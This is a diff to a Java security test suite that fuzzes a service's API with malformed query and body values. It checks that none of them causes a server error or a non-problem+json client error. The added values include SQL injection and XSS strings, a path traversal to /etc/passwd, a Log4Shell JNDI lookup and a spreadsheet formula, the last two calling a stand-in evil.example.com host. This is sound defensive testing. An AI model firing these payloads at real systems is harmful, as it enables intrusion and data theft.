@@ -46,7 +46,7 @@ public abstract class SecuritySuite {
 
     private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).connectTimeout(Duration.ofSeconds(5)).build();
 
-    record Operation(String method, String path, boolean secured, JsonNode bodySchema) {
+    record Operation(String method, String path, boolean secured, JsonNode bodySchema, List<String> queryParameters) {
         String describe() {
             return method + " " + path;
         }
@@ -99,6 +99,40 @@ public abstract class SecuritySuite {
         assertThat(defects).as("5xx answers or 4xx that are not problem+json").isEmpty();
     }
 
+    private static final List<String> HOSTILE_QUERY = List.of("", "abc", "-1", "0", "99999999999999999999", "1e400",
+            "' OR 1=1 --", "<script>alert(1)</script>", "%00", "x".repeat(3000), "2026-02-30", "NaN", "../..", "a,b,,c",
+            "not-a-uuid", "true");
+
+    @Test
+    void badQueryParametersNeverCauseA5xxAndEvery4xxIsAProblem() throws Exception {
+        String token = TestTokens.token(ALL_ROLES, "fuzhou", "province-admin", "city-admin", "station-manager", "volunteer",
+                "worker", "partner", "device", "rights-desk");
+        List<Operation> withQuery = operations().stream().filter(op -> !op.queryParameters().isEmpty()).toList();
+        assertThat(withQuery).as("operations with query parameters").isNotEmpty();
+        List<String> defects = new ArrayList<>();
+        int tried = 0;
+        for (Operation op : withQuery) {
+            for (String parameter : op.queryParameters()) {
+                for (String value : HOSTILE_QUERY) {
+                    String query = (op.path().contains("?") ? "&" : "?") + java.net.URLEncoder.encode(parameter, StandardCharsets.UTF_8)
+                            + "=" + java.net.URLEncoder.encode(value, StandardCharsets.UTF_8);
+                    Operation probed = new Operation(op.method(), op.path() + query, op.secured(), op.bodySchema(), op.queryParameters());
+                    HttpResponse<String> response = send(probed, token, body(op), "application/json");
+                    tried++;
+                    String type = response.headers().firstValue("Content-Type").orElse("");
+                    if (response.statusCode() >= 500
+                            || (response.statusCode() >= 400 && !type.startsWith("application/problem+json"))) {
+                        defects.add(op.describe() + " ?" + parameter + "=" + preview(value) + " → " + response.statusCode()
+                                + " " + type + " " + preview(response.body()));
+                    }
+                }
+            }
+        }
+        System.out.printf("bad-query suite [%s]: %d operations with query parameters, %d generated requests, %d defects%n",
+                getClass().getSimpleName(), withQuery.size(), tried, defects.size());
+        assertThat(defects).as("5xx answers or 4xx that are not problem+json").isEmpty();
+    }
+
     /** Operations of the service's OpenAPI document with the schema of their JSON body (if any). */
     List<Operation> operations() throws IOException, InterruptedException {
         HttpResponse<String> doc = http.send(HttpRequest.newBuilder(URI.create(base() + "/q/openapi?format=json")).GET().build(),
@@ -118,8 +152,14 @@ public abstract class SecuritySuite {
                 }
                 boolean secured = op.path("security").isArray() && !op.path("security").isEmpty();
                 JsonNode schema = op.path("requestBody").path("content").path("application/json").path("schema");
+                List<String> query = new ArrayList<>();
+                op.path("parameters").forEach(p -> {
+                    if ("query".equals(p.path("in").asText())) {
+                        query.add(p.path("name").asText());
+                    }
+                });
                 operations.add(new Operation(method.getKey().toUpperCase(), concrete(path.getKey(), op), secured,
-                        schema.isMissingNode() ? null : resolve(root, schema)));
+                        schema.isMissingNode() ? null : resolve(root, schema), query));
             }
         }
         return operations;
@@ -190,6 +230,19 @@ public abstract class SecuritySuite {
             NODES.booleanNode(true),
             NODES.textNode("not a number"),
             NODES.arrayNode().add(1).add("two"),
+            NODES.textNode(""),
+            NODES.textNode("   "),
+            NODES.textNode("驿".repeat(50_000)),
+            NODES.textNode("not-a-uuid"),
+            NODES.textNode("2026-02-30"),
+            NODES.textNode("25:61"),
+            NODES.textNode("../../etc/passwd"),
+            NODES.textNode("${jndi:ldap://evil.example.com/a}"),
+            NODES.textNode("=HYPERLINK(\"http://evil.example.com\")"),
+            NODES.textNode("NaN"),
+            NODES.numberNode(0),
+            NODES.numberNode(-9223372036854775808L),
+            NODES.numberNode(1.7976931348623157e308),
             NODES.objectNode().put("nested", true),
             NODES.nullNode());
 
